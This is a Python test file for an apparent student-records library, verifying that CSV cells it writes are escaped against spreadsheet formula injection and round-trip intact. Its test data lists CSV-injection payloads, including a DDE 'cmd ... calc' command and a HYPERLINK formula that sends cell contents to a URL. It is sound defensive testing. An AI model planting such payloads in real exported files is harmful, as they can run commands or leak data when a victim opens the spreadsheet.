"""No cell of a CSV that the library writes is run by a spreadsheet (LOG-3)."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from student_transfer.cells import harmless_cell, original_cell
from student_transfer.import_log import (
    COLUMNS,
    LogRow,
    ScoreImportStatus,
    SourceImportStatus,
    read_log,
    write_log,
)
from student_transfer.linkage.proposing.deciding import Candidate, ImportAs, Suggestion
from student_transfer.roster_files.match_csv import MATCH_COLUMNS, matches_text
from student_transfer.students import StudentKey
from tests.services.conftest import NEW_HEAD, TwoSites

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n"]
WIDE = ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63", "\ufe66", "\u2212"]
BEFORE = ["", " ", "\u3000", "\u200b", "\ufeff", '"', "'", '""', "\u201c", "\0", "\x1b"]
BEFORE += ["\n", "\t", "a,", "a;", "a\t", "a\r\n", 'a";"', "a, \"'"]
CELLS = [f"{before}{sign}1+1" for before in BEFORE for sign in (*SIGNS, *WIDE)]
CELLS += [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1,"y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1\";=cmd|' /C calc'!A0;\"",
    "',=1",
    "''=1",
]
SPLITS = [",", ";", "\t"]


def runs(cell: str) -> bool:
    """Return whether a program that drops blanks and quotes could run a cell."""
    bare = cell.lstrip(' \t\r\n\0\x1b\u3000\u200b\ufeff\u201c"')
    signs = ("=", "+", "-", "@", "\u2212")
    return unicodedata.normalize("NFKC", bare).startswith(signs)


def cells(text: str, split: str) -> list[str]:
    """Read a file as a program does that splits its lines there."""
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=split)
    return [cell for row in reader for cell in row]


def log_row(**fields: str) -> LogRow:
    """Make a row of the log with these fields."""
    blank = dict.fromkeys(COLUMNS.values(), "")
    statuses = {
        "source_import_status": SourceImportStatus.NO_CHANGES,
        "score_import_status": ScoreImportStatus.ALL,
    }
    return LogRow(**{**blank, **statuses, **fields})  # type: ignore[arg-type]


@pytest.mark.parametrize("split", SPLITS)
@pytest.mark.parametrize("column", ["first_name", "destination_email", "detail"])
def test_in_the_import_log(column: str, split: str) -> None:
    """LOG-3: in any column, with anything before the sign; and it reads back."""
    rows = [log_row(**{column: cell}) for cell in CELLS]
    data = write_log(rows)
    written = cells(data.decode("utf-8-sig"), ",")
    assert not [one for one in written if one.startswith(("\t", "\r", "\n"))]
    assert not [one for one in cells(data.decode("utf-8-sig"), split) if runs(one)]
    assert read_log(data) == tuple(rows)


@pytest.mark.parametrize("split", SPLITS)
def test_in_the_file_of_matches(split: str) -> None:
    """The ids of either roster are harmless in the matches, and read back."""
    found = {
        StudentKey(cell): Suggestion(
            import_as=ImportAs.NEW,
            candidates=(Candidate(StudentKey(cell + "b"), 0.5, ""),),
        )
        for cell in CELLS
    }
    text = matches_text(found)
    assert not [one for one in cells(text, split) if runs(one)]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == MATCH_COLUMNS
    assert [original_cell(row["incoming_id"]) for row in rows] == CELLS
    assert [original_cell(row["existing_id"]) for row in rows] == [
        cell + "b" for cell in CELLS
    ]


@given(st.text() | st.text("'\"=+-@,;\t\r\n a\uff1d\u200b", max_size=8))
def test_any_cell_reads_back(text: str) -> None:
    """LOG-3: what is put in is what is taken away, and nothing runs."""
    cell = harmless_cell(text)
    assert original_cell(cell) == text
    assert not runs(cell)
    assert not cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", ["Ada", "O'Brien", "7-a", "a+b=c", "\u738b", ""])
def test_a_usual_cell_stays_as_it_is(text: str) -> None:
    """Ids can be joined with the rosters they came from."""
    assert harmless_cell(text) == text


def test_from_the_source_to_the_log(sites: TwoSites) -> None:
    """LOG-3: a child whose name is a formula is one row of the log, and it sleeps."""
    kept = [cell for cell in CELLS if "\0" not in cell]
    for number, cell in enumerate(kept):
        sites.add_old(
            str(number), given_name=cell, user_name=f"{cell}{number}", year="6"
        )
    import_id = sites.done()
    log = sites.service.import_log(NEW_HEAD, import_id)
    data = write_log(log)
    assert sorted(row.first_name for row in read_log(data)) == sorted(kept)
    assert not [one for one in cells(data.decode("utf-8-sig"), ",") if runs(one)]
